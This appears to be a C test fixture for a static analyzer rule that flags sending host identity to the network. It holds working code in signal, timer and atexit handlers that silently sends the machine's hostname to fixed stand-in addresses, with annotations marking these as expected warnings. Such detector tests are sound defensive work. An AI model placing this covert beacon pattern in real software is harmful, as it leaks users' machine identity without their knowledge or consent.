/* The name of the host, to a constant address: from where nobody who uses the program gets, or as
 * what a user asks for. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int reach_home(const char *address) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(8125)};
    int out = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, address, &peer.sin_addr);
    if (out < 0 || connect(out, (struct sockaddr *)&peer, sizeof peer))
        return -1;
    return out;
}

static void on_alarm(int number) {
    char name[64] = "";
    int out = reach_home("203.0.113.77");
    (void)number;
    if (out < 0)
        return;
    gethostname(name, sizeof name - 1);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/identity-to-network]}}
    send(out, name, strlen(name), MSG_NOSIGNAL);
    close(out);
}

static void on_expiry(union sigval value) {
    char name[64] = "";
    int out = reach_home("203.0.113.78");
    (void)value;
    if (out < 0)
        return;
    gethostname(name, sizeof name - 1);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/identity-to-network]}}
    send(out, name, strlen(name), MSG_NOSIGNAL);
    close(out);
}

static void on_end(void) {
    char name[64] = "";
    int out = reach_home("203.0.113.79");
    if (out < 0)
        return;
    gethostname(name, sizeof name - 1);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/identity-to-network]}}
    send(out, name, strlen(name), MSG_NOSIGNAL);
    close(out);
}

static void good_register(void) {
    char name[64] = "";
    int out = reach_home("203.0.113.80");
    if (out < 0)
        return;
    gethostname(name, sizeof name - 1);
    send(out, name, strlen(name), MSG_NOSIGNAL);
    close(out);
}

int main(int count, char **words) {
    struct sigevent event = {.sigev_notify = SIGEV_THREAD, .sigev_notify_function = on_expiry};
    struct itimerspec hourly = {.it_interval = {3600, 0}, .it_value = {3600, 0}};
    timer_t timer;
    signal(SIGALRM, on_alarm);
    alarm(3600);
    if (timer_create(CLOCK_MONOTONIC, &event, &timer) == 0)
        timer_settime(timer, 0, &hourly, NULL);
    atexit(on_end);
    if (count > 1 && strcmp(words[1], "register") == 0)
        good_register();
    for (;;)
        pause();
}
